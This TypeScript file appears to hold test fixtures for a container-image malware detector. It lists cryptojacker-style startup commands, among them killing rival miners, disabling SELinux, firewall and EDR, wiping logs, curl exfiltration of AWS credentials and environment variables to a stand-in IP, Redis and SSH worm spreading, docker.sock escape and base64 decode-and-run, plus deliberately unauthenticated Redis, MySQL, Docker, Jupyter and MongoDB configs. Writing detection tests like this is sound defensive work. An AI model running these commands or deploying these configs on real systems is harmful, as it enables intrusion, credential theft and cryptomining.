import { program } from '../../../../test/detection/image-case.ts';
import { base64 } from '../../../../testkit/coded.ts';
import type { Payload } from '../payload.ts';

const IP = '198.51.100.24';

function does(rule: string, name: string, text: string): Payload {
  return {
    class: `at start: ${rule.replaceAll('-', ' ')}`,
    kind: 'command',
    name,
    text,
    rules: [`start/${rule}`],
  };
}

function open(
  name: string,
  path: string,
  text: string,
  server: string,
  command: readonly string[] = [`/${server}`],
): Payload {
  return {
    class: 'door left open',
    kind: 'file',
    name,
    path,
    text,
    beside: { [server]: program() },
    config: { Cmd: [...command] },
    rules: ['open-service/no-login'],
    onlyInPlace: true,
  };
}

/** What is done at start, and what is left open. */
export const BEHAVING: readonly Payload[] = [
  does('kills-rivals', 'by name', 'pkill -9 -f kdevtmpfsi; killall -q xmrig kinsing'),
  does(
    'kills-rivals',
    'by a list',
    'for n in xmrig kinsing minerd; do pgrep -f "$n" | xargs -r kill -9; done',
  ),
  does('disables-defences', 'an agent', 'systemctl stop falcon-sensor; systemctl disable falcon-sensor'),
  does(
    'disables-defences',
    'SELinux and the firewall',
    'setenforce 0; ufw disable; iptables -P INPUT ACCEPT; iptables -F',
  ),
  does(
    'tunes-for-mining',
    'registers',
    'modprobe msr allow_writes=on; wrmsr -a 0x1a4 0xf; echo 1280 > /proc/sys/vm/nr_hugepages',
  ),
  does('fakes-name', 'of a kernel thread', "exec -a '[kworker/u8:2]' /opt/svc/engine"),
  does('makes-immutable', 'its own files', 'chattr +i /etc/cron.d/svc /root/.ssh/authorized_keys'),
  does(
    'wipes-traces',
    'logs and history',
    'rm -f ~/.bash_history /var/log/wtmp; history -c; cat /dev/null > /var/log/lastlog',
  ),
  does('sends-secrets', 'of the cloud', `curl -s -F f=@/root/.aws/credentials http://${IP}/up`),
  does('sends-secrets', 'of the environment', `env | base64 -w0 | curl -s --data-binary @- http://${IP}/up`),
  does(
    'spreads',
    'over Redis',
    'masscan 10.0.0.0/8 -p6379 --rate 5000 -oL /tmp/o; for h in $(awk "/open/{print \\$4}" /tmp/o); do redis-cli -h $h config set dir /var/spool/cron; done',
  ),
  does(
    'spreads',
    'over SSH',
    'for h in $(awk "{print \\$1}" ~/.ssh/known_hosts); do scp -o StrictHostKeyChecking=no /opt/svc/engine root@$h:/tmp/e; ssh -o StrictHostKeyChecking=no root@$h /tmp/e; done',
  ),
  does(
    'escapes',
    'by the engine',
    'docker -H unix:///var/run/docker.sock run -d --privileged -v /:/host alpine chroot /host sh -c id',
  ),
  does('escapes', 'by the kernel', 'echo "|/opt/svc/engine" > /proc/sys/kernel/core_pattern'),
  {
    class: 'at start: decode and run',
    kind: 'command',
    name: 'base64',
    text: `echo ${base64('/opt/svc/engine --quiet --forever; sleep 100000')} | base64 -d | sh`,
    rules: ['start/decode-and-run'],
  },
  open(
    'Redis',
    'etc/redis/redis.conf',
    'bind 0.0.0.0\nprotected-mode no\nport 6379\n',
    'usr/bin/redis-server',
  ),
  open(
    'MySQL',
    'etc/mysql/conf.d/z.cnf',
    '[mysqld]\nskip-grant-tables\nbind-address = 0.0.0.0\n',
    'usr/sbin/mysqld',
  ),
  open(
    'Docker',
    'etc/docker/daemon.json',
    '{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}\n',
    'usr/bin/dockerd',
  ),
  open(
    'Jupyter',
    'root/.jupyter/jupyter_server_config.py',
    "c.ServerApp.ip = '0.0.0.0'\nc.ServerApp.token = ''\nc.ServerApp.password = ''\n",
    'usr/bin/jupyter',
    ['/usr/bin/jupyter', 'lab', '--allow-root'],
  ),
  open(
    'MongoDB',
    'etc/mongod.conf',
    'net:\n  bindIp: 0.0.0.0\n  port: 27017\nsecurity:\n  authorization: disabled\n',
    'usr/bin/mongod',
    ['/usr/bin/mongod', '--config', '/etc/mongod.conf'],
  ),
];
